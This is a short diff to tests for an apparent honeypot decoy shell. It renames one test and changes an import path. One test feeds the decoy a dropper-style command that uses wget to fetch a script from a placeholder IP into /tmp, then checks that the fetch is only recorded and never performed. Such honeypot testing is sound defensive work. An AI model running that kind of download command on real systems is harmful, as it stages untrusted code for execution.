@@ -12,7 +12,7 @@ from tests.decnet_decoys.decky_host import NOW, Player, root_shell
 
 from decnet_decoys.shell.budget import MAX_WRITTEN
 from decnet_decoys.shell.interpreter import HANG_SECONDS
-from decnet_decoys.shell.registry import programs
+from decnet_decoys.shell.programs import programs
 from decnet_decoys.shell.streams import MAX_OUTPUT
 
 
@@ -73,7 +73,7 @@ def test_busybox_complains_in_its_own_words(player: Callable[..., Player]) -> No
     assert player("nas")("apt update").errors == "-sh: apt: not found\n"
 
 
-def test_nothing_is_fetched_and_the_wish_is_recorded(run: Player) -> None:
+def test_nothing_is_fetched_and_the_request_is_recorded(run: Player) -> None:
     played = run("cd /tmp; wget -q http://198.51.100.9/m.sh -O m.sh; ls m.sh")
     assert [(one.action, one.detail["url"]) for one in played.requested] == [("fetch", "http://198.51.100.9/m.sh")]
     assert "No such file" in played.errors
